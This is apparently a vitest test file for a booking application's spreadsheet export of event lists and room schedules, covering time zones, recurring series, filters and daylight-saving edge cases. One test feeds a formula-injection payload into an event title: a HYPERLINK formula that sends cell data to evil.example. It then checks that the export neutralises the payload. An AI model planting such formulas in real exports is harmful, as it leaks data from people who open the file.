import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { EXPORT_TYPES, planSheet } from '../../src/domain/events/export.ts';
import { planWorkSheet } from '../../src/domain/work/work-sheet.ts';
import { type EventRecord, type Fields, makeEvent } from '../support/bookings.ts';
import { makeEquipment } from '../support/equipment.ts';
import { makeInstitution, makeRoom, makeVenue } from '../support/places.ts';
import { column, type ExportingApp, exported, exportingApp, type SheetRow } from './exporting.ts';

let app: ExportingApp;
let venue: string;
let hall: string;
let attic: string;
beforeAll(async () => {
  app = await exportingApp({ timezone: 'Europe/Berlin' });
  await app.work();
  venue = await makeVenue(app, { name: 'North', timezone: 'Asia/Tokyo' });
  hall = await makeRoom(app, { name: 'hall', venue_id: venue, location: 'Floor 1' });
  attic = await makeRoom(app, { name: 'Attic' });
});
afterAll(() => app.close());

const make = (start_at: string, end_at: string, fields: Fields = {}): Promise<EventRecord> =>
  makeEvent(app, 'manager', attic, { start_at, end_at, status: 'pending', ...fields });

const on = (day: string, fields: Fields = {}): Promise<SheetRow[]> =>
  exported(app, { from_date: day, to_date: day, ...fields });

const titles = (rows: SheetRow[]): SheetRow[string][] => column(rows, 'Title');

test('a row of an event list shows an occurrence with its times in the zone of its venue', async () => {
  const institution_id = await makeInstitution(app, { name: 'Law' });
  const event = await make('2027-03-01T08:00:00Z', '2027-03-01T09:30:00Z', {
    title: 'Kick-off',
    description: 'line 1\nline 2',
    room_id: hall,
    notes: 'n',
    website: 'https://a.example',
    contact_email: 'a@b.example',
    expected_attendees: 35,
    category: { event_type: 'lecture', format: 'in_person', institution_id },
    roles: [
      { user_name: 'Ann', user_email: 'ann@a.example', role: 'core_responsible' },
      { user_name: 'Guest', role: 'room_user' },
      { user_name: 'Bo', role: 'extra_responsible' },
    ],
    requirements: [{ kind: 'media', details: 'beamer' }, { kind: 'catering' }],
    equipment: [
      { equipment_id: await makeEquipment(app, { name: 'piano' }), quantity: 1 },
      { equipment_id: await makeEquipment(app, { name: 'cameras' }), quantity: 2 },
    ],
  });
  expect(await on('2027-03-01')).toEqual([
    {
      Start: '2027-03-01T17:00:00',
      End: '2027-03-01T18:30:00',
      'All day': 'no',
      'Time zone': 'Asia/Tokyo',
      Title: 'Kick-off',
      Status: 'Pending',
      Room: 'hall',
      'Further rooms': null,
      Venue: 'North',
      'Event type': 'Lecture',
      Format: 'In Person',
      Institution: 'Law',
      Responsible: 'Ann <ann@a.example>; Bo',
      'People expected': 35,
      Layout: null,
      Seats: null,
      'Contact email': 'a@b.example',
      Website: 'https://a.example',
      Equipment: '2 × cameras; 1 × piano',
      Requirements: 'Media: beamer; Catering',
      Description: 'line 1\nline 2',
      Notes: 'n',
      'Created by': 'manager',
      Recurring: 'no',
      'Dates left out': null,
      ID: event.id,
      'Start (UTC)': '2027-03-01T08:00:00Z',
      'End (UTC)': '2027-03-01T09:30:00Z',
    },
  ]);
});

test('a row of a room schedule says how long the room is held, and around what', async () => {
  const event = await make('2027-03-02T08:00:00Z', '2027-03-02T09:00:00Z', {
    room_id: hall,
    prep_before_minutes: 30,
    cleanup_after_minutes: 15,
    category: { institution: 'Elsewhere' },
  });
  expect(await on('2027-03-02', { type: 'room_schedule' })).toEqual([
    {
      Room: 'hall',
      'Further rooms': null,
      Venue: 'North',
      Location: 'Floor 1',
      'Reserved from': '2027-03-02T16:30:00',
      'Preparation (minutes)': 30,
      Start: '2027-03-02T17:00:00',
      End: '2027-03-02T18:00:00',
      'All day': 'no',
      'Clean-up (minutes)': 15,
      'Reserved until': '2027-03-02T18:15:00',
      'Time zone': 'Asia/Tokyo',
      Title: 'Kick-off',
      Status: 'Pending',
      'Room reserved': 'yes',
      'People expected': null,
      Layout: null,
      Seats: null,
      Responsible: null,
      Equipment: null,
      Requirements: null,
      Notes: null,
      ID: event.id,
      'Start (UTC)': '2027-03-02T08:00:00Z',
      'End (UTC)': '2027-03-02T09:00:00Z',
    },
  ]);
  expect(column(await on('2027-03-02'), 'Institution')).toEqual(['Elsewhere']);
});

test('times of an event whose venue has no zone, or that has no venue, are in the service zone', async () => {
  const plain = await makeRoom(app, { venue_id: await makeVenue(app, { name: 'South' }) });
  const day = '2027-03-04';
  await make(`${day}T08:00:00Z`, `${day}T09:00:00Z`, { room_id: plain });
  await make(`${day}T08:00:00Z`, `${day}T09:00:00Z`);
  for (const type of ['event_list', 'room_schedule']) {
    const rows = await on(day, { type });
    const berlin = [`${day}T09:00:00`, 'Europe/Berlin', `${day}T08:00:00Z`];
    const shown = rows.map((row) => [row.Start, row['Time zone'], row['Start (UTC)']]);
    expect(shown).toEqual([berlin, berlin]);
  }
});

test('no two columns have the same heading, also where the service zone is UTC', () => {
  for (const type of EXPORT_TYPES) {
    const plan = type === 'work_list' ? planWorkSheet('UTC') : planSheet(type, 'UTC');
    const headings = plan.columns.map(({ header }) => header);
    expect(new Set(headings).size).toBe(headings.length);
  }
});

test('a room schedule goes by room, then by start; an event list by start', async () => {
  const day = '2027-03-03';
  await make(`${day}T12:00:00Z`, `${day}T13:00:00Z`, { title: 'attic late' });
  await make(`${day}T10:00:00Z`, `${day}T11:00:00Z`, { title: 'hall late', room_id: hall });
  await make(`${day}T09:00:00Z`, `${day}T10:00:00Z`, { title: 'attic early' });
  await make(`${day}T08:00:00Z`, `${day}T09:00:00Z`, { title: 'hall early', room_id: hall });
  expect(titles(await on(day, { type: 'room_schedule' }))).toEqual([
    'attic early',
    'attic late',
    'hall early',
    'hall late',
  ]);
  expect(titles(await on(day))).toEqual(['hall early', 'attic early', 'hall late', 'attic late']);
});

describe('a series', () => {
  let series: EventRecord;
  beforeAll(async () => {
    series = await make('2027-04-05T08:00:00Z', '2027-04-05T09:00:00Z', {
      title: 'Weekly',
      room_id: hall,
      is_recurring: true,
      recurrence_rule: 'FREQ=DAILY',
      recurrence_count: 5,
      recurrence_timezone: 'UTC',
      prep_before_minutes: 10,
    });
    const override = (day: string, body: Fields) =>
      app.as('manager').put(`/events/${series.id}/occurrences/2027-04-${day}T08:00:00Z`, body);
    await override('06', { title: 'Special', notes: 'new', prep_before_minutes: 0 });
    await override('07', { room_id: attic, start_at: '2027-04-09T05:00:00Z' });
    await override('08', { is_cancelled: true });
  });
  const april = { from_date: '2027-04-01', to_date: '2027-04-30' };
  const id = (day: string): string => `${series.id}::2027-04-${day}T08:00:00Z`;

  test('is a row for each occurrence, overrides applied, without those that are cancelled', async () => {
    const { status, body } = await app
      .as('manager')
      .put(`/events/${series.id}/occurrences/2027-04-07T08:00:00Z`, {
        start_at: '2027-04-09T05:00:00Z',
        end_at: '2027-04-09T06:00:00Z',
        room_id: attic,
      });
    expect([status, body.message]).toEqual([
      200,
      'The occurrence was updated and the series needs approval again.',
    ]);
    const rows = await exported(app, april);
    expect(column(rows, 'ID')).toEqual(['05', '06', '07', '09'].map(id));
    expect(titles(rows)).toEqual(['Weekly', 'Special', 'Weekly', 'Weekly']);
    expect(column(rows, 'Notes')).toEqual([null, 'new', null, null]);
    expect(column(rows, 'Room')).toEqual(['hall', 'hall', 'Attic', 'hall']);
    expect(column(rows, 'Recurring')).toEqual(['yes', 'yes', 'yes', 'yes']);
    expect(column(rows, 'Start (UTC)')[2]).toBe('2027-04-09T05:00:00Z');
  });

  test('is listed with the dates that it leaves out, and the holidays because of which it does', async () => {
    const labour = { name: 'Labour Day', starts_on: '2027-09-06', ends_on: '2027-09-06' };
    await app.as('admin').post('/holidays', labour);
    await make('2027-08-30T22:30:00Z', '2027-08-30T23:30:00Z', {
      title: 'Night',
      room_id: hall,
      recurrence_rule: 'FREQ=WEEKLY;COUNT=4',
      skip_holidays: true,
      excluded_dates: ['2027-09-13T22:30:00Z'],
    });
    await make('2027-08-30T06:00:00Z', '2027-08-30T07:00:00Z', {
      title: 'Day',
      recurrence_rule: 'FREQ=WEEKLY;COUNT=4',
      skip_holidays: true,
      excluded_dates: ['2027-09-13T06:00:00Z'],
    });
    const rows = await exported(app, { from_date: '2027-08-30', to_date: '2027-08-31' });
    // In the zone of each series: in Tokyo it is Tuesday already.
    expect(rows.map((row) => [row.Title, row['Dates left out']])).toEqual([
      ['Day', '2027-09-06 (Labour Day); 2027-09-13'],
      ['Night', '2027-09-14'],
    ]);
  });

  test('is in the schedule of the rooms that its occurrences are in', async () => {
    const inHall = await exported(app, { ...april, type: 'room_schedule', room_id: hall });
    expect(column(inHall, 'ID')).toEqual(['05', '06', '09'].map(id));
    expect(column(inHall, 'Preparation (minutes)')).toEqual([10, 0, 10]);
    const inAttic = await exported(app, { ...april, type: 'room_schedule', room_id: attic });
    expect(column(inAttic, 'ID')).toEqual([id('07')]);
    expect(column(await exported(app, { ...april, room_id: attic }), 'ID')).toEqual([id('07')]);
  });

  test('includes its cancelled occurrence when the status filter has cancelled', async () => {
    const rows = await exported(app, { ...april, status: 'cancelled', type: 'room_schedule' });
    expect(column(rows, 'ID')).toEqual([id('08')]);
    expect(column(rows, 'Status')).toEqual(['Cancelled']);
    expect(column(rows, 'Room reserved')).toEqual(['no']);
  });
});

test('a status filter excludes other statuses; without one, occurrences that hold their room are exported', async () => {
  const day = '2027-05-03';
  for (const [at, status] of ['draft', 'pending', 'approved', 'cancelled'].entries()) {
    await make(`${day}T0${at}:00:00Z`, `${day}T0${at + 1}:00:00Z`, { title: status, status });
  }
  expect(titles(await on(day))).toEqual(['pending', 'approved']);
  for (const status of ['draft', 'pending', 'approved', 'cancelled']) {
    expect(titles(await on(day, { status }))).toEqual([status]);
    expect(titles(await on(day, { status, type: 'room_schedule' }))).toEqual([status]);
  }
});

test('filters by room and venue include occurrences that take place there', async () => {
  const day = '2027-05-04';
  await make(`${day}T08:00:00Z`, `${day}T09:00:00Z`, { title: 'in the hall', room_id: hall });
  await make(`${day}T08:00:00Z`, `${day}T09:00:00Z`, { title: 'in the attic' });
  for (const type of ['event_list', 'room_schedule']) {
    expect(titles(await on(day, { type, room_id: hall }))).toEqual(['in the hall']);
    expect(titles(await on(day, { type, venue_id: venue }))).toEqual(['in the hall']);
    expect(titles(await on(day, { type, venue_id: venue, room_id: attic }))).toEqual([]);
    expect(await on(day, { type })).toHaveLength(2);
  }
});

describe('the days from and to', () => {
  const both = async (fields: Fields): Promise<SheetRow[string][]> => {
    const schedule = titles(await exported(app, { ...fields, type: 'room_schedule' }));
    expect(titles(await exported(app, fields))).toEqual(schedule);
    return schedule;
  };

  test('are whole days of the service zone; occurrences that only touch their ends are excluded', async () => {
    const span = (start: string, end: string, title: string) => make(start, end, { title });
    await span('2027-06-06T21:00:00Z', '2027-06-06T22:00:00Z', 'ends as they begin');
    await span('2027-06-06T22:00:00Z', '2027-06-06T22:30:00Z', 'begins as they begin');
    await span('2027-06-07T21:30:00Z', '2027-06-07T22:00:00Z', 'ends as they end');
    await span('2027-06-07T22:00:00Z', '2027-06-07T23:00:00Z', 'begins as they end');
    const day = { from_date: '2027-06-07', to_date: '2027-06-07' };
    expect(await both(day)).toEqual(['begins as they begin', 'ends as they end']);
  });

  test('include an occurrence that started long before and ends long after', async () => {
    await make('2033-06-01T00:00:00Z', '2034-06-01T12:00:00Z', { title: 'a year', room_id: hall });
    const day = { from_date: '2034-05-31', to_date: '2034-05-31' };
    expect(await both(day)).toEqual(['a year']);
  });

  test('are shorter and longer where the clock changes', async () => {
    const hour = (start: string, title: string) =>
      make(start, new Date(Date.parse(start) + 3_600_000).toISOString(), { title });
    await hour('2027-03-27T22:00:00Z', 'before the 28th');
    await hour('2027-03-27T23:00:00Z', 'the first hour of the 28th');
    await hour('2027-03-28T21:00:00Z', 'the last hour of the 28th');
    await hour('2027-03-28T22:00:00Z', 'after the 28th');
    await hour('2027-10-30T21:00:00Z', 'before the 31st');
    await hour('2027-10-30T22:00:00Z', 'the first hour of the 31st');
    await hour('2027-10-31T00:30:00Z', 'half past two');
    await hour('2027-10-31T01:30:00Z', 'half past two again');
    await hour('2027-10-31T22:00:00Z', 'the last hour of the 31st');
    await hour('2027-10-31T23:00:00Z', 'after the 31st');
    const spring = await on('2027-03-28');
    expect(titles(spring)).toEqual(['the first hour of the 28th', 'the last hour of the 28th']);
    expect(column(spring, 'End')[1]).toBe('2027-03-29T00:00:00');
    const autumn = await on('2027-10-31');
    expect(titles(autumn)).toEqual([
      'the first hour of the 31st',
      'half past two',
      'half past two again',
      'the last hour of the 31st',
    ]);
    const starts = column(autumn, 'Start');
    expect(starts.slice(1, 3)).toEqual(['2027-10-31T02:30:00', '2027-10-31T02:30:00']);
    expect(column(autumn, 'Start (UTC)').slice(1, 3)).toEqual([
      '2027-10-31T00:30:00Z',
      '2027-10-31T01:30:00Z',
    ]);
  });
});

test('more rows than are read at once are all there, once each, in order', async () => {
  const daily = { is_recurring: true, recurrence_rule: 'FREQ=HOURLY', recurrence_count: 250 };
  for (const room_id of [hall, attic]) {
    const times = ['2030-01-01T00:00:00Z', '2030-01-01T00:30:00Z'] as const;
    await make(...times, { ...daily, room_id, recurrence_timezone: 'UTC' });
  }
  const year = { from_date: '2030-01-01', to_date: '2030-12-31' };
  for (const type of ['event_list', 'room_schedule']) {
    const rows = await exported(app, { ...year, type });
    expect(new Set(column(rows, 'ID')).size).toBe(500);
    const place = (row: SheetRow): string =>
      `${type === 'event_list' ? '' : String(row.Room).toLowerCase()} ${row['Start (UTC)']}`;
    const places = rows.map(place);
    expect(places).toEqual(places.toSorted());
  }
});

test('texts of events do not become formulas', async () => {
  const evil = '=HYPERLINK("https://evil.example?"&A1,"x")';
  await make('2027-07-05T08:00:00Z', '2027-07-05T09:00:00Z', {
    title: evil,
    notes: '@SUM(1)',
    description: 'Dear all,\n=1+1',
    roles: [{ user_name: '+1', role: 'core_responsible' }],
  });
  const { id } = (
    await app.as('admin').post('/admin/exports', {
      type: 'event_list',
      from_date: '2027-07-05',
      to_date: '2027-07-05',
    })
  ).body.data;
  await app.as('admin').post(`/admin/exports/${id}/run`);
  const csv = (await app.as('admin').get(`/admin/exports/${id}/download?format=csv`)).text;
  const cells = [`"'${evil.replaceAll('"', '""')}"`, "'@SUM(1)", `"Dear all,\n'=1+1"`, "'+1"];
  for (const cell of cells) {
    expect(csv).toContain(`,${cell},`);
  }
});

test('an event in several rooms is one row of an event list, and one in the schedule of each room', async () => {
  const day = { start_at: '2027-03-20T08:00:00Z', end_at: '2027-03-20T09:00:00Z' };
  await make(day.start_at, day.end_at, { title: 'Gala', extra_room_ids: [hall] });
  const rooms = (rows: SheetRow[]) =>
    rows.map((row) => [row.Room, row['Further rooms'], row.Start]);
  const inList = [['Attic', 'hall', '2027-03-20T09:00:00']];
  expect(rooms(await on('2027-03-20'))).toEqual(inList);
  expect(rooms(await on('2027-03-20', { room_id: hall }))).toEqual(inList);
  expect(rooms(await on('2027-03-20', { venue_id: venue }))).toEqual(inList);
  const inHall = ['hall', 'Attic', '2027-03-20T17:00:00'];
  const schedule = { type: 'room_schedule' };
  expect(rooms(await on('2027-03-20', schedule))).toEqual([...inList, inHall]);
  expect(rooms(await on('2027-03-20', { ...schedule, room_id: hall }))).toEqual([inHall]);
});
